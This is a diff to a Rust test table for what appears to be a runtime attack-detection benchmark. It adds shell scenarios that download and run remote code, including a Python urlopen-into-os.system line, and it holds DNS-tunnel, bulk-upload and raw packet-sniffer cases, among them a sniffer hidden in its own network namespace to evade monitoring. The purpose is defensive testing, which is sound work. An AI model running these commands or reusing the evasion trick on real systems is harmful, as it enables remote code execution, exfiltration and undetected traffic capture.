@@ -82,6 +82,10 @@ const SCENARIOS: &[Scenario] = &[
         script: "printf 'wget -qO- {url} | bash\\n' > {dir}/setup.sh && sh {dir}/setup.sh" },
     Scenario { family: "shell", name: "file-piped-into-shell", attack: false, process_rule: true, marker: None, root: false,
         script: "printf 'cat /etc/hostname >/dev/null; sleep 1.5\\n' > {dir}/local.sh && cat {dir}/local.sh | sh" },
+    Scenario { family: "shell", name: "python-runs-its-download", attack: true, process_rule: true, marker: None, root: false,
+        script: "/usr/bin/python3 -c \"import urllib.request,os; os.system(urllib.request.urlopen('{url}').read().decode())\"" },
+    Scenario { family: "shell", name: "download-parsed-by-python", attack: false, process_rule: true, marker: None, root: false,
+        script: "curl -fsS {url} | /usr/bin/python3 -c 'import sys; print(len(sys.stdin.read()))' >/dev/null; curl -fsS {url} | awk '{print $1}' >/dev/null; sleep 1.5" },
     // network
     Scenario { family: "network", name: "dns-tunnel", attack: true, process_rule: false, marker: Some("203.0.113.53:53"), root: false,
         script: "/usr/bin/python3 -c \"import socket,time\nfor i in range(150):\n    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.connect(('203.0.113.53',53)); s.send(b'q'); s.settimeout(1); s.recv(64); s.close(); time.sleep(0.01)\"" },
@@ -93,6 +97,12 @@ const SCENARIOS: &[Scenario] = &[
         script: "/usr/bin/python3 -c \"import socket\nc=socket.create_connection(('203.0.113.81',443))\nc.sendall(b'x'*(20<<20)); c.close()\"" },
     Scenario { family: "network", name: "packet-sniffer", attack: true, process_rule: false, marker: Some("packet socket opened"), root: true,
         script: "/usr/bin/python3 -c \"import socket,time\ns=socket.socket(socket.AF_PACKET,socket.SOCK_RAW,socket.htons(3))\ntime.sleep(7)\"" },
+    // `unshare -rn` as the victims' user (a container's bounding set kept): CAP_NET_RAW in
+    // a network namespace of its own, whose sockets the pod's /proc/net/packet does not list.
+    Scenario { family: "network", name: "packet-sniffer-own-netns", attack: true, process_rule: false, marker: Some("packet socket opened"), root: true,
+        script: "setpriv --reuid=pfbench --regid=pfbench --clear-groups unshare -rn /usr/bin/python3 -c \"import socket,time\ns=socket.socket(socket.AF_PACKET,socket.SOCK_RAW,socket.htons(3))\ntime.sleep(4)\"" },
+    Scenario { family: "network", name: "own-netns-listener", attack: false, process_rule: false, marker: Some("packet socket opened"), root: true,
+        script: "setpriv --reuid=pfbench --regid=pfbench --clear-groups unshare -rn /usr/bin/python3 -c \"import socket,time\ns=socket.socket(); s.bind(('127.0.0.1',0)); s.listen(); time.sleep(4)\"" },
 ];
 
 struct Outcome {
